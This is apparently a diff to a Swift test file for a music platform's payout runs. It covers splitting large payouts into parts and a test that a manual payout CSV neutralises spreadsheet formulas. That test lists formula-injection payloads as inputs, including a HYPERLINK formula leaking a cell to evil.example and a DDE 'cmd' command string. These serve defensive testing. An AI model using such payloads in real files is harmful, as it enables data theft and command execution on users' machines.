@@ -42,20 +42,42 @@ import TestSupport
     @Test func eachStepIsABalancedTransferUnderItsOwnKey() throws {
         let payout = PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "luna", balance: 10_001, settings: try Self.settings("FR"))],
                                     rates: Self.rates).payouts[0]
-        let paid = try PayoutRun.transfer(payout, run: Self.run)
+        let paid = try PayoutRun.transfers(payout, run: Self.run)[0]
         #expect(paid.idempotencyKey == "payout:2026-11:EUR:luna" && paid.kind == .payout)
         #expect(paid.postings.map { "\($0.side) \($0.account) \($0.amount)" }
                 == ["debit artist/luna/EUR 10001", "credit payouts/in-flight/EUR 8721", "credit tax/FR/EUR 1280"])
-        let confirmed = try PayoutRun.confirmation(payout, run: Self.run)
+        let confirmed = try PayoutRun.confirmations(payout, run: Self.run)[0]
         #expect(confirmed.idempotencyKey == "payout-confirm:2026-11:EUR:luna")
         #expect(confirmed.postings.map { "\($0.side) \($0.account) \($0.amount)" } == ["debit payouts/in-flight/EUR 8721", "credit external/sepa/EUR 8721"])
-        let failed = try PayoutRun.failure(payout, run: Self.run)
+        let failed = try PayoutRun.failures(payout, run: Self.run)[0]
         #expect(failed.idempotencyKey == "payout-fail:2026-11:EUR:luna")
         #expect(failed.postings.map { "\($0.side) \($0.account) \($0.amount)" }
                 == ["debit payouts/in-flight/EUR 8721", "credit artist/luna/EUR 10001", "debit tax/FR/EUR 1280"])
         // Run ids parse back; anything else does not.
         #expect(PayoutRun.ID("2026-11-EUR") == Self.run && Self.run.description == "2026-11-EUR")
         for bad in ["2026-11", "2026-13-EUR", "2026-11-XYZ", "2026-11_EUR", "2026-11-EURO", "1999-12-EUR"] { #expect(PayoutRun.ID(bad) == nil, "\(bad)") }
+    }
+
+    /// Issue 24: a gross one posting cannot carry made no transfer at all; it is paid in parts, each within the limit.
+    @Test func aGrossAboveThePostingLimitIsPaidInExactParts() throws {
+        let limit = Currency.maximumMinorUnits
+        for gross in [limit, limit + 1, 9 * (limit - 1), 9 * limit + 7, Int64.max] {
+            let payout = try #require(PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "luna", balance: gross,
+                                                                                                            settings: try Self.settings("JP"))],
+                                                     rates: Self.rates).payouts.first)
+            let parts = PayoutRun.parts(payout)
+            #expect(parts.count == (gross <= limit ? 1 : Int(gross / (limit - 1) + 1)), "\(gross)")
+            #expect(parts.allSatisfy { $0.gross <= limit && $0.gross == $0.net + $0.withheld && $0.net > 0 }, "\(gross)")
+            #expect(parts.map(\.gross).checkedSum == gross && parts.map(\.withheld).checkedSum == payout.withheld, "\(gross)")
+            #expect(parts.map(\.number) == Array(1...parts.count))
+            for transfers in [try PayoutRun.transfers(payout, run: Self.run), try PayoutRun.confirmations(payout, run: Self.run),
+                              try PayoutRun.failures(payout, run: Self.run)] {
+                #expect(transfers.count == parts.count && Set(transfers.map(\.idempotencyKey)).count == parts.count)
+            }
+            let keys = try PayoutRun.transfers(payout, run: Self.run).map(\.idempotencyKey)
+            #expect(keys.first == "payout:2026-11:EUR:luna" && (parts.count == 1 || keys[1] == "payout:2026-11:EUR:luna:2"))
+            #expect(PayoutRun.settlementKeys(ofPayoutKey: keys.last!)?.failure == PayoutRun.failureKey(Self.run, artist: "luna", part: parts.count))
+        }
     }
 
     @Test func theFilesListEachPayoutOnce() throws {
@@ -77,5 +99,25 @@ import TestSupport
         #expect(csv == ManualPayoutFile.header + "\r\n" + #"2026-11-EUR,1,amy,Luna Díaz,"USDC 0xabc, memo ""nov""",EUR,35.00,3500,1500,US"# + "\r\n")
         let rows = CSV.lines(csv).dropFirst().filter { !$0.isEmpty }.map(CSV.fields)
         #expect(rows.first?[4] == #"USDC 0xabc, memo "nov""#, "the quoted cell reads back")
+    }
+
+    /// Issue 24: a reference `=HYPERLINK(…)` or an account name `@SUM(A1)` was written verbatim, and a spreadsheet
+    /// opening the payout file ran it.
+    @Test func theManualFileNeutralisesFormulas() throws {
+        let cases = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "@SUM(A1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\tTAB", "'=already quoted"]
+        for (index, text) in cases.enumerated() {
+            let settings = try PayoutSettings(method: .manual(reference: text), accountName: text, minimum: 1, currency: Self.eur, taxCountry: "US")
+            let payout = try #require(PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "amy", balance: 5_000, settings: settings)],
+                                                     rates: Self.rates).payouts.first)
+            let csv = try ManualPayoutFile.file(run: Self.run, payouts: [(number: 1, payout: payout)], createdAt: 0, debtor: nil)
+            func neutralised(_ text: String) -> String { "\"'" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
+            let line = String(csv.dropFirst(ManualPayoutFile.header.count + 1))
+            #expect(line == "2026-11-EUR,1,amy,\(neutralised(text)),\(neutralised(text)),EUR,35.00,3500,1500,US\r\n",
+                    "case \(index): \(line)")
+            #expect(csv.hasPrefix(ManualPayoutFile.header + "\r\n"))
+            let cells = CSV.fields(CSV.lines(line)[0])
+            #expect(cells[3] == "'" + text && cells[4] == "'" + text, "case \(index): a spreadsheet shows the text")
+            #expect(CSVCell.decode(cells[4]) == text, "case \(index): reading it back is exact")
+        }
     }
 }
